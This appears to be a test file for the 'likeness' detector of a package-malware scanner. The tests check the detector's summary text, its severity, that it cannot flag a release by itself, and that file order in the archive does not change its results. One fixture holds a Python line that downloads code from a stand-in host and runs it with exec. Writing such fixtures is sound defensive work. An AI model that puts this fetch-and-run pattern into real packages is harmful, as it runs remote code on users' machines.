import { judge } from '@weir/scoring';
import { describe, expect, test } from 'vitest';
import { sdist } from '../samples-kit.ts';
import { analyzeSample, describeSamples } from '../testing/samples-suite.ts';
import { samples } from './samples.ts';

describeSamples('likeness', samples);

describe('likeness', () => {
  test('names the facts that say most and no others, and how likely they make malware', async () => {
    const [sample] = samples.malicious;
    if (!sample) throw new Error('there is no sample');

    const result = await analyzeSample(sample);
    const own = result.findings.find(({ detector }) => detector === 'likeness');

    expect(own?.summary).toMatch(/^the code is like that of known malware: (?:[^,]+, ){2}[^,]+$/);
    expect(own?.stage).toBe('install');
    expect(own).toMatchObject({ kind: 'ranking', severity: 'low' });
    expect(own?.confidence).toBeGreaterThan(0.9);
  });

  test('alone it never makes a release suspicious, at no stage', async () => {
    for (const sample of samples.malicious) {
      const { findings } = await analyzeSample(sample);
      const own = findings.filter(({ detector }) => detector === 'likeness');

      expect(own).toHaveLength(1);
      expect(judge({ findings: own, skipped: [], complete: true }).verdict).toBe('benign');
    }
  });

  test('says the same of the same code, wherever its files stand in the archive', async () => {
    const files = sdist(
      "import os, base64, requests\nexec(base64.b64decode(requests.get('https://load.weir.test/a').text))",
      { 'own/__init__.py': "print('own')\n" },
    );
    const turned = Object.fromEntries(Object.entries(files).toReversed());
    const [one, other] = await Promise.all(
      [files, turned].map(async (of) => {
        const { findings } = await analyzeSample({ name: 'order', files: of, expected: [] });
        return findings.filter(({ detector }) => detector === 'likeness');
      }),
    );

    expect(one).toHaveLength(1);
    expect(other).toEqual(one);
  });
});
